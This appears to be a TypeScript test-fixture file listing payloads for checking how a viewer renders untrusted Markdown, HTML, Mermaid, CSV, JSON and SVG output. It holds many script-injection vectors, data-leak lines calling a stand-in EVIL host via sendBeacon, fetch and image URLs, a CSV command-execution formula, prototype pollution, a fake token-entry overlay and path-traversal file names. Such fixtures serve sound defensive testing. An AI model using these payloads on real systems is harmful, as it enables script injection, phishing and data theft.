/**
 * Outputs that try to run, load, lead away or look like the console. `EVIL` is another server, `RUN` a call that is
 * noticed, `TOKEN` a word that shows when the output is drawn.
 */

export interface Payload {
  ext: string;
  text: string;
}

const md = [
  'TOKEN <script>RUN</script>',
  'TOKEN <img src=x onerror="RUN">',
  'TOKEN <svg onload="RUN"></svg>',
  'TOKEN [go](javascript:RUN)',
  'TOKEN [go](JaVaScRiPt:RUN)',
  'TOKEN [go](java\nscript:RUN)',
  'TOKEN [go](data:text/html,<script>RUN</script>)',
  'TOKEN [go](vbscript:RUN)',
  'TOKEN ![x](EVIL/md.png)',
  'TOKEN ![x](//HOST/md.png)',
  'TOKEN ![x](javascript:RUN)',
  'TOKEN ![x](EVIL/leak?prompt=secret "title\\" onerror=\\"RUN")',
  'TOKEN ![x][ref]\n\n[ref]: EVIL/ref.png',
  'TOKEN <iframe src="EVIL/frame"></iframe>',
  'TOKEN <iframe srcdoc="<script>RUN</script>"></iframe>',
  'TOKEN <object data="EVIL/o.swf"></object><embed src="EVIL/e.swf">',
  'TOKEN <meta http-equiv="refresh" content="0;url=EVIL/refresh">',
  'TOKEN <base href="EVIL/">',
  'TOKEN <link rel="stylesheet" href="EVIL/s.css"><style>@import "EVIL/i.css";</style>',
  'TOKEN <form action="EVIL/f"><button>Approve</button></form>',
  'TOKEN\n\n<details open ontoggle="RUN"><summary>x</summary></details>',
  'TOKEN <video src="EVIL/v.mp4" autoplay onloadstart="RUN"></video>',
  'TOKEN <a href="x" onmouseover="RUN">move here</a>',
  '| TOKEN | b |\n|---|---|\n| <img src=x onerror=RUN> | [x](javascript:RUN) |',
  'TOKEN\n\n```html\n<script>RUN</script>\n```\n\n`<img src=x onerror=RUN>`',
  'TOKEN <style>body{background:url(EVIL/bg.png)}</style>',
  'TOKEN <math><mtext><table><mglyph><style><img src=x onerror="RUN"></style></mglyph></table></mtext></math>',
];

const html = [
  'TOKEN<script>RUN</script>',
  'TOKEN<script src="EVIL/x.js"></script>',
  'TOKEN<script type="module">RUN</script><script>import("EVIL/m.js")</script>',
  'TOKEN<img src=x onerror="RUN">',
  'TOKEN<img src="EVIL/h.png" srcset="EVIL/h2.png 2x">',
  'TOKEN<body onload="RUN" background="EVIL/bg.gif">',
  'TOKEN<svg onload="RUN"><script>RUN</script></svg>',
  'TOKEN<svg><animate onbegin="RUN" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:RUN"/></svg>',
  'TOKEN<svg><use href="EVIL/s.svg#x"/><image href="EVIL/i.png"/><foreignObject><img src="EVIL/f.png"></foreignObject></svg>',
  'TOKEN<svg><a xlink:href="javascript:RUN"><text y="20">go</text></a></svg>',
  'TOKEN<svg><style>*{background:url(EVIL/svgcss.png)}</style></svg>',
  'TOKEN<iframe src="EVIL/frame"></iframe>',
  'TOKEN<iframe src="javascript:RUN"></iframe>',
  'TOKEN<iframe srcdoc="<script>RUN</script>"></iframe>',
  'TOKEN<iframe src="/inbox"></iframe>',
  'TOKEN<object data="EVIL/o.html"></object>',
  'TOKEN<embed src="EVIL/e.html">',
  'TOKEN<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
  'TOKEN<meta http-equiv="refresh" content="0;url=/inbox?pwned">',
  'TOKEN<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>RUN</script>',
  'TOKEN<base href="EVIL/"><img src="rel.png">',
  'TOKEN<link rel="stylesheet" href="EVIL/s.css"><link rel="prefetch" href="EVIL/p"><link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL">',
  'TOKEN<link rel="icon" href="EVIL/i.ico"><link rel="manifest" href="EVIL/m.json">',
  'TOKEN<style>@import url(EVIL/i.css); body{background:url(EVIL/c.png)} @font-face{font-family:x;src:url(EVIL/f.woff)} *{font-family:x}</style>',
  'TOKEN<div style="background:url(EVIL/inline.png)">x</div><div style="background:u\\72l(EVIL/esc.png)">y</div>',
  'TOKEN<style>input[value^=a]{background:image-set("EVIL/set.png" 1x)}</style><input value="abc">',
  'TOKEN<form action="EVIL/f" method="post"><input name="a" value="b"><button>go</button></form><script>document.forms[0].submit()</script>',
  'TOKEN<form action="javascript:RUN"><button formaction="javascript:RUN">go</button></form>',
  'TOKEN<a href="javascript:RUN">go</a>',
  'TOKEN<a href="EVIL/away" target="_top">go</a>',
  'TOKEN<a href="EVIL/ping" ping="EVIL/pinged" target="_blank">go</a>',
  'TOKEN<a href="/api/pipelines?pwned" target="_parent">go</a>',
  'TOKEN<script>top.location="EVIL/top"</script><script>window.open("EVIL/open")</script>',
  'TOKEN<script>fetch("/api/tokens?pwned");parent.document.title="pwned"</script>',
  'TOKEN<script>alert(1);confirm(2);prompt(3)</script>',
  'TOKEN<script>new WebSocket("ws://HOST/ws");new EventSource("EVIL/es");navigator.sendBeacon("EVIL/b")</script>',
  'TOKEN<video src="EVIL/v.mp4" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio><video poster="EVIL/p.png"></video>',
  'TOKEN<input autofocus onfocus="RUN"><select autofocus onfocus="RUN"></select><textarea autofocus onfocus="RUN"></textarea>',
  'TOKEN<details open ontoggle="RUN"><summary>x</summary></details><marquee onstart="RUN">m</marquee>',
  'TOKEN<template><script>RUN</script></template><noscript><img src="EVIL/ns.png"></noscript>',
  'TOKEN<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  'TOKEN<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>',
  'TOKEN<portal src="EVIL/portal"></portal><fencedframe src="EVIL/ff"></fencedframe>',
  'TOKEN<div style="position:fixed;inset:0;z-index:999999">Signed out. Enter your token: <input type="password"></div>',
  'TOKEN<script>for(;;){}</script>',
];

const mmd = [
  'graph TD\n A[TOKEN] --> B\n click A "javascript:RUN"',
  'graph TD\n A[TOKEN] --> B\n click A call RUN',
  'graph TD\n A[TOKEN] --> B\n click A href "EVIL/click" _top',
  'graph TD\n A["<img src=x onerror=RUN>TOKEN"] --> B["<script>RUN</script>"]',
  'graph TD\n A["TOKEN<iframe src=EVIL/mf></iframe>"] --> B',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n A["<img src=x onerror=RUN>TOKEN"] --> B',
  '%%{init: {"themeCSS": "@import url(EVIL/t.css); *{background:url(EVIL/t.png)}"}}%%\ngraph TD\n A[TOKEN] --> B',
  '---\nconfig:\n  securityLevel: loose\n  themeCSS: "*{background:url(EVIL/t2.png)}"\n---\ngraph TD\n A[TOKEN] --> B',
  'graph TD\n A[TOKEN] --> B\n style A fill:url(EVIL/fill.svg#x)\n classDef c background:url(EVIL/cd.png)\n class B c',
  'graph TD\n A@{ img: "EVIL/m.png", label: "TOKEN" }\n A --> B',
  'sequenceDiagram\n Alice->>Bob: TOKEN <img src=x onerror=RUN>\n link Alice: Dashboard @ javascript:RUN',
  'graph TD\n this is not TOKEN a diagram -->\n <script>RUN</script>',
];

const csv = [
  'a,TOKEN\n=HYPERLINK("EVIL/x","go"),1',
  'a,TOKEN\n"=cmd|\' /C calc\'!A0",@SUM(1)',
  'a,TOKEN\n<script>RUN</script>,<img src=x onerror=RUN>',
  'a,TOKEN\n"=IMAGE(""EVIL/i.png"")",+1',
  '<img src=x onerror=RUN>,TOKEN\njavascript:RUN,"<svg onload=RUN>"',
];

const json = [
  '{"TOKEN": "<script>RUN</script>"}',
  '{"TOKEN": "<img src=x onerror=RUN>", "<svg onload=RUN>": 1}',
  '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "TOKEN": 1}',
  '{"TOKEN": "javascript:RUN", "url": "EVIL/j.png"}',
  '{"TOKEN": broken </script><script>RUN</script>',
];

const svg = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="RUN"><script>RUN</script><rect width="40" height="40"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"><image xlink:href="EVIL/s.png" width="9" height="9"/><use href="EVIL/u.svg#a"/></svg>',
  '<?xml version="1.0"?><?xml-stylesheet href="EVIL/x.css"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><style>@import url(EVIL/s.css);</style><foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="EVIL/fo.png"/></body></foreignObject></svg>',
];

const of = (ext: string, all: string[]): Payload[] => all.map((text) => ({ ext, text }));

export const PAYLOADS: Payload[] = [...of('md', md), ...of('html', html), ...of('mmd', mmd), ...of('csv', csv), ...of('json', json), ...of('svg', svg)];

/** Names of files and of things, which are shown as well. */
export const NAMES = ['"><img src=x onerror=RUN>.txt', '<script>RUN</script>.md', "';RUN;//.json", '../../etc/passwd.html', '\u202Egpj.exe.csv'];
